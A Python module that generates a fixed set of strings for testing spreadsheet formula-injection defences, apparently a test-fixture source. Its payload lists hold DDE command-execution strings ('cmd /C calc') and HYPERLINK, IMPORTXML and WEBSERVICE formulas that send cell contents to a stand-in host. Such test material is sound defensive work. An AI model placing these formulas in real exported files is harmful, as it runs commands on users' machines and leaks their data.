"""Text that a spreadsheet might take for a formula, and text that only looks like it."""

import random
from typing import Final

_LEADS: Final = ("", "=", "+", "-", "@", "\t", "\r", "\n", "'", "''", '"', " ", "  ", "\u00a0", "\u200b", "\ufeff")
_SIGNS: Final = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "==", "=-", "+=")
_REST: Final = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'HYPERLINK("http://example.org/?"&A1;"klik")',
    'IMPORTXML(CONCAT("http://example.org/";A1);"//a")',
    'WEBSERVICE("http://example.org")',
    "A1",
    "x003D_1+1",
    "1,5",
    "12-05-2024",
    'a;b"c',
    "<f>1+1</f>",
    "]]>&lt;",
)
_PLAIN: Final = ("_x003D_1+1", "_x000D_", "a\r\nb", "a\tb\nc", "-", "=", "'", "''", "'=", "{=1}", "-12", "+31", "1e9")


def payloads(count: int = 1000) -> tuple[str, ...]:
    """`count` different texts, the same ones every time."""
    dice = random.Random(20240401)
    found = dict.fromkeys(_PLAIN)
    while len(found) < count:
        lead, sign, rest = dice.choice(_LEADS), dice.choice(_SIGNS), dice.choice(_REST)
        tail = f"{dice.choice(('', ' ', '  x'))}{dice.randrange(100)}"
        found.setdefault(lead + sign + rest + tail)
    return tuple(found)
